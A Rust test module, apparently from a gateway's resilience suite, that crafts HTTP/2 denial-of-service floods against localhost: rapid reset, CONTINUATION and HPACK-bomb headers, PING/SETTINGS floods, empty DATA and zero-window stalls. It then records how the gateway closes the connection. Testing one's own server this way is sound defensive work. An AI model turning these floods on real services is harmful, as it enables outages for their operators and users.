//! Attacks by frames of HTTP/2.

use std::time::Duration;

use tokio::time::Instant;

use super::Target;
use super::support::h2_frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, H2, HEADERS, PING, RST_STREAM, SETTINGS, block, frame, integer, request,
};
use super::support::line::Line;

/// Frames said together.
const TOGETHER: u32 = 100;
/// Streams opened at once.
const STREAMS: u32 = 100;
/// How long a gateway may take nothing before the flood counts as dammed.
const BRIEF: Duration = Duration::from_secs(1);

/// Opens streams and resets them.
pub fn rapid_reset(target: &Target) -> String {
    let ask = request("GET", "/bytes/1000", &[]);
    flood(target, &[], &[], |number| {
        let stream = number * 2 + 1;
        [frame(HEADERS, END_STREAM | END_HEADERS, stream, &ask), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    })
}

/// A header that never ends.
pub fn continuation(target: &Target) -> String {
    let more = block(&[("x", &"y".repeat(4_000))]);
    let begin = frame(HEADERS, END_STREAM, 1, &request("GET", "/", &[]));
    flood(target, &[], &begin, |_| frame(CONTINUATION, 0, 1, &more))
}

/// Wants an answer to each, and reads none.
pub fn pings(target: &Target) -> String {
    flood(target, &[], &[], |_| frame(PING, 0, 0, b"flooding"))
}

/// As [`pings`].
pub fn settings(target: &Target) -> String {
    flood(target, &[], &[], |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]))
}

/// Of a body that never comes.
pub fn empty_data(target: &Target) -> String {
    let begin = frame(HEADERS, END_HEADERS, 1, &request("POST", "/wait", &[]));
    flood(target, &[], &begin, |_| frame(DATA, 0, 1, &[]))
}

/// A field of 4,000 bytes that the table keeps, named 12,000 times by one byte each.
pub fn bomb(target: &Target) -> String {
    let mut kept = vec![0x40];
    for text in ["x", &"y".repeat(4_000)] {
        kept.extend(integer(text.len(), 127, 0));
        kept.extend_from_slice(text.as_bytes());
    }
    let often = vec![0x80 | 62; 12_000];
    flood(target, &[], &[], |number| {
        let block = [request("GET", "/", &[]), kept.clone(), often.clone()].concat();
        frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &block)
    })
}

/// Asks for much, and takes nothing.
pub fn zero_window(target: &Target) -> String {
    let Some(mut h2) = connect(target, &[(4, 0)]) else { return "not let in".to_owned() };
    let ask = request("GET", "/bytes/5000000", &[]);
    let asks: Vec<u8> = (0..STREAMS).flat_map(|number| frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &ask)).collect();
    h2.0.say_within(&asks, BRIEF);
    farewell(&mut h2, target.end.saturating_duration_since(Instant::now()))
}

/// Says `begin` and then pieces without end.
fn flood(target: &Target, settings: &[(u16, u32)], begin: &[u8], piece: impl Fn(u32) -> Vec<u8>) -> String {
    let Some(mut h2) = connect(target, settings) else { return "not let in".to_owned() };
    h2.0.say(begin);
    let mut first = 0;
    while Instant::now() < target.end {
        let pieces: Vec<u8> = (first..first + TOGETHER).flat_map(&piece).collect();
        first += TOGETHER;
        if !h2.0.say_within(&pieces, BRIEF) {
            return farewell(&mut h2, BRIEF);
        }
    }
    "at the end".to_owned()
}

fn connect(target: &Target, settings: &[(u16, u32)]) -> Option<H2> {
    // To be turned away is an attacker's lot.
    let line = Line::try_open("localhost", target.https, &target.root, &[b"h2"]).ok()?;
    Some(H2::over(line, settings))
}

/// How the gateway ends it: what its GOAWAY says, where that arrives.
fn farewell(h2: &mut H2, patience: Duration) -> String {
    let Some(said) = h2.0.rest(patience) else { return "nothing: the gateway reads no more".to_owned() };
    let mut rest = said.as_slice();
    while let [a, b, c, kind, _, _, _, _, _, payload @ ..] = rest {
        let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
        if let (GOAWAY, Some(code)) = (*kind, payload.get(7)) {
            return format!("GOAWAY {code}");
        }
        rest = payload.get(length..).unwrap_or_default();
    }
    "a closed connection".to_owned()
}
